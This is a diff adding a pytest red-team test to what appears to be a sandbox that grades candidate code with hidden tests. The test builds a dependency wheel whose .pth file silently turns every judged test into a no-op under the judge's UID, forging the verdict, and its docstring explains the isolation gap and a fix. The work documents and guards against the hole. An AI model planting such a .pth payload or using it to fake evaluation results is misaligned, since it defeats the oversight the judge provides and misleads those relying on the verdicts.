@@ -350,3 +350,74 @@ def test_holds_in_the_pool_under_gvisor_pid1s_go_channel_is_gone(tmp_path, sandb
     assert "('/proc/1/fd/1', 'refused', 13)" in out, out[-2000:]
     assert "test_h" not in out.split("('/proc/1/fd/0'")[1].split(")")[0]
     assert result.judged.verdict == "fail"
+
+
+# ----- derived images: a dependency's .pth file runs inside PID 1 and the judge -----
+
+PTH_FORGE = '''import os, sys, builtins
+if os.getuid() == 10002:  # the judge's UID: every judged test's body becomes a no-op
+    _orig = builtins.__import__
+    def _imp(name, globals=None, locals=None, fromlist=(), level=0):
+        mod = _orig(name, globals, locals, fromlist, level)
+        p = sys.modules.get("_pytest.python")
+        if p is not None and hasattr(p, "Function") and not getattr(p, "_rsi_forged", False):
+            p._rsi_forged = True
+            p.Function.runtest = lambda self: None
+        return mod
+    builtins.__import__ = _imp
+'''
+
+
+def _pth_wheel(path: Path) -> Path:
+    files = {"pthdep_forge.py": PTH_FORGE.encode(), "pthdep_forge.pth": b"import pthdep_forge\n",
+             "pthdep-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: pthdep\nVersion: 1.0\n",
+             "pthdep-1.0.dist-info/WHEEL":
+                 b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
+    record = []
+    for rel, data in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+        record.append(f"{rel},sha256={digest},{len(data)}")
+    record.append("pthdep-1.0.dist-info/RECORD,,")
+    files["pthdep-1.0.dist-info/RECORD"] = ("\n".join(record) + "\n").encode()
+    whl = path / "pthdep-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(whl, "w") as zf:
+        for rel, data in files.items():
+            zf.writestr(rel, data)
+    return whl
+
+
+@pytest.mark.docker
+@pytest.mark.xfail(strict=True, reason="break: a dependency wheel's .pth file in a derived image runs in every "
+                                       "python3 -I of the container, the judge included, and forges the verdict")
+def test_break_a_dependency_pth_file_forges_the_judge_in_a_derived_image(tmp_path, docker_client, sandbox_image):
+    """``python3 -I`` still runs ``site``, and ``site`` executes the ``import`` lines of every ``.pth`` in
+    site-packages; the derived image copies the dependencies' site-packages over the base's (where
+    ``rsi_sandbox.pth`` lives). A wheel (a released one from the index works the same as this
+    ``file://`` one) that ships ``x.pth`` runs its code at the start of PID 1 (root, before the
+    environment with the HMAC key and the judged tests is scrubbed), of the judge and of the worker.
+    Not a model's move (a patch cannot change dependencies), but the judge's isolation rests on
+    "nothing of the workspace is on this path", which this bypasses. Positive control: the same
+    project in the plain sandbox image is judged fail. Fix: start PID 1 and the judge with ``-I -S``
+    and add /opt/rsi and the judge's pytest explicitly (no site, no .pth), or install dependencies
+    where only the candidate's processes look (a PYTHONPATH entry), and refuse wheels with .pth files."""
+    from orchestrator.sandbox.project_image import build_project_image
+
+    vendor = tmp_path / "vendor"
+    vendor.mkdir()
+    whl = _pth_wheel(vendor)
+    proj = write_tree(tmp_path / "proj", {
+        "pyproject.toml": f'[project]\nname = "rt3-pthdep"\nversion = "0.1"\n'
+                          f'dependencies = ["pthdep @ {whl.as_uri()}"]\n',
+        "example.py": WRONG, "test_example.py": VISIBLE})
+    hidden = {"test_h.py": "from example import add\n\n\ndef test_h():\n    assert add(2, 3) == 5\n"}
+    plain = run_tests(proj, limits=SandboxLimits.load(), judge=hidden)
+    assert plain.judged.verdict == "fail", ("control", plain.judged.reasons)
+    tag = build_project_image(docker_client, proj)
+    try:
+        derived = run_tests(proj, limits=SandboxLimits.load(image=tag), judge=hidden)
+    finally:
+        try:
+            docker_client.images.remove(tag, force=True)
+        except Exception:  # noqa: BLE001
+            pass
+    assert derived.judged.verdict != "pass", ("a dependency's .pth forged the judge", derived.judged.calls)
